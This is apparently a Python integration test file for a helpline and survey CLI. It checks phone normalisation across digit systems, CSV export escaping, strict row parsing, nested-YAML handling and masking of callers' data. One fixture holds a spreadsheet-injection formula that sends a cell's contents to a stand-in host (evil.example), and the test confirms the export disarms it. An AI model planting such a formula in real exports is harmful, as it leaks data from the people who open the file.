"""Bad input, everywhere the same (issue 20 point 7), through the real CLI: numbers written in
another digit system, spreadsheet formulas in exports, list rows that do not fit their header,
and files or folders that used to end in a traceback."""

from __future__ import annotations

import json

from tests.integration.test_survey_campaign import _csv, _items, _pseudonym, _start, _survey_country, cli

A = "+48600700801"
A_FULLWIDTH = "\uff0b\uff14\uff18\uff16\uff10\uff10\uff17\uff10\uff10\uff18\uff10\uff11"
A_ARABIC = "+\u0664\u0668\u0666\u0660\u0660\u0667\u0660\u0660\u0668\u0660\u0661"
A_MIXED = "+48\u0666\u0660\u0660\u0667\u0660\u0660\u0668\u0660\u0661"  # Latin and Arabic-Indic digits


def test_an_opted_out_person_is_not_loaded_again_under_another_digit_system(tmp_path):
    country, state = _survey_country(tmp_path), tmp_path / "state"
    cli("survey-campaign", "opt-out", country, "--caller", A_ARABIC, "--state", state)
    (opt_out,) = _items(state, "SurveyOptOuts")
    assert opt_out["pseudonym"]["S"] == _pseudonym(state, A)  # the same pseudonym as the ASCII number
    people = _csv(tmp_path, f"{A_FULLWIDTH},uk,ok", f"{A_ARABIC},uk,ok", "+48600700802,uk,ok")
    started = _start(country, "c-1", people, "--state", state)
    assert "1 to call, 1 duplicate(s) kept once, 1 on the opt-out list skipped" in started.stdout
    loaded = _items(state, "SurveyCampaignContacts")
    assert [i["phone"]["S"] for i in loaded] == ["+48600700802"]
    assert _pseudonym(state, A) not in json.dumps(loaded)


def test_a_number_of_two_digit_systems_is_refused_by_the_list_and_by_opt_out(tmp_path):
    country, state = _survey_country(tmp_path), tmp_path / "state"
    refused = _start(country, "c-1", _csv(tmp_path, f"{A_MIXED},uk,ok"), "--state", state, code=2)
    assert "line 2: phone is not an E.164 number" in refused.stderr
    bad = cli("survey-campaign", "opt-out", country, "--caller", A_MIXED, "--state", state, code=2)
    assert "--caller is not an E.164 phone number" in bad.stderr


# ---------------------------------------------------------------------------- erase and the simulator

CALLER = "+48600700900"
DAY = "2026-03-02T10:30"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _called(tmp_path, caller: str = CALLER):
    """A state folder after one simulated call (a case of the caller: pl, Ukrainian, topic 2)."""
    state = tmp_path / "state"
    cli("call", "pl", "--lang", "uk", "--press", "-", "2", "--at", DAY, "--caller", caller, "--state", state)
    return state


def test_erase_finds_the_caller_by_a_number_in_another_digit_system_and_refuses_mixed_ones(tmp_path):
    state = _called(tmp_path)
    mixed = cli("erase", "--caller", A_MIXED, "--state", state, code=2)
    assert mixed.stderr.strip() == "--caller is not an E.164 phone number (e.g. +48600700800)"
    arabic = "+\u0664\u0668\u0666\u0660\u0660\u0667\u0660\u0660\u0669\u0660\u0660"  # CALLER in Arabic-Indic
    assert "erased caller" in cli("erase", "--caller", arabic, "--state", state).stdout


def test_the_simulator_takes_the_caller_through_the_same_normaliser(tmp_path):
    fullwidth = "\uff0b\uff14\uff18\uff16\uff10\uff10\uff17\uff10\uff10\uff19\uff10\uff10"  # CALLER, fullwidth
    state = _called(tmp_path, fullwidth)
    assert [c["caller_id"]["S"] for c in _items(state, "Callers")] == [_pseudonym(state, CALLER)]
    refused = cli("call", "pl", "--lang", "uk", "--caller", "+48 600 7OO 900", code=2)
    assert refused.stderr.strip() == "--caller is not an E.164 phone number (e.g. +48600700800) nor 'anonymous'"


# ---------------------------------------------------------------------------- CSV exports


def test_no_export_cell_starts_a_spreadsheet_formula(tmp_path):
    import csv
    import io

    state = _called(tmp_path)
    cli("erase", "--caller", CALLER, "--state", state, "--actor", FORMULA)
    text = cli("audit", "export", "--state", state, "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(text)))
    actors = [row[5] for row in rows[1:]]
    assert f"'{FORMULA}" in actors  # kept readable, as text
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    jsonl = cli("audit", "export", "--state", state, "--format", "json").stdout
    assert FORMULA in {json.loads(line)["actor"] for line in jsonl.splitlines()}  # JSON Lines: the value as is


def test_an_export_into_a_missing_folder_is_one_line(tmp_path):
    state = _called(tmp_path)
    target = tmp_path / "no-such-folder" / "export.csv"
    result = cli("audit", "export", "--state", state, "--output", target, code=2)
    assert result.stderr.strip().splitlines() == [f"{target}: cannot write the export: No such file or directory"]
    assert "Traceback" not in result.stdout + result.stderr


# ---------------------------------------------------------------------------- strict list rows


def test_a_row_with_more_or_fewer_cells_than_its_header_is_refused_with_its_line(tmp_path):
    country = _survey_country(tmp_path)
    people = tmp_path / "cut.csv"
    people.write_text(
        "phone,language,consent\n"
        "+48600700801,uk,agreed at the desk, Warsaw 2026-03-01\n"  # unquoted comma: the consent text is cut
        "+48600700802,uk\n"
        "+48600700803,uk,ok\n",
        encoding="utf-8",
    )
    result = _start(country, "c-1", people, "--state", tmp_path / "state", code=2)
    assert result.stderr.strip().splitlines() == [
        f"survey-campaign: {people}: 2 bad row(s), nothing written:",
        "  line 2: 4 cells, the header has 3; fix: put a cell that holds a comma in double quotes",
        "  line 3: 2 cells, the header has 3; fix: put a cell that holds a comma in double quotes",
    ]
    assert not (tmp_path / "state" / "SurveyCampaignContacts.jsonl").exists()


# ---------------------------------------------------------------------------- country files


def test_a_deeply_nested_country_file_is_one_line(tmp_path):
    from helpline.config import COUNTRIES_DIR

    deep = tmp_path / "pl.yaml"
    depth = 5000
    text = (COUNTRIES_DIR / "pl.yaml").read_text(encoding="utf-8")
    deep.write_text(text + "tags: " + "[" * depth + "]" * depth + "\n", encoding="utf-8")
    result = cli("validate", deep, code=2)
    (line,) = result.stderr.strip().splitlines()
    assert "nested deeper than" in line and line.startswith(str(deep))
    assert "Traceback" not in result.stdout + result.stderr


# ---------------------------------------------------------------------------- the simulator's output

NOTE = "safe tonight at Kwiatowa 5"
OPERATOR = f"""\
agent: operator-1
supervisor: false
screens:
  context-view: ActionSelected
  calltype-view: {{action: Next, data: {{call_type: real}}}}
  needs-view: {{action: Next, data: {{need: SV}}}}
  screening-view:
    action: Next
    data: {{region: mazowieckie, urgency: urgent, consent: true, note: "{NOTE}"}}
  referral-view: ActionSelected
  referral-done-view: Next
  closing-view: {{action: Next, data: {{outcome: referred, follow_up: true, callback_requested: false}}}}
  failed-view: ActionSelected
  guide-done: Next
"""


def test_the_simulator_prints_the_number_masked_and_the_note_by_its_length(tmp_path):
    script = tmp_path / "operator.yaml"
    script.write_text(OPERATOR, encoding="utf-8")
    args = ("call", "pl", "--lang", "uk", "--press", "-", "0", "--at", DAY, "--operator", script)
    out = cli(*args, "--caller", "+48 601 234 567").stdout
    assert "from +48******567" in out
    assert "601234567" not in out and "601 234 567" not in out
    assert f"note=[note: {len(NOTE)} chars]" in out  # the Cases table's note
    assert NOTE not in out and "Kwiatowa" not in out
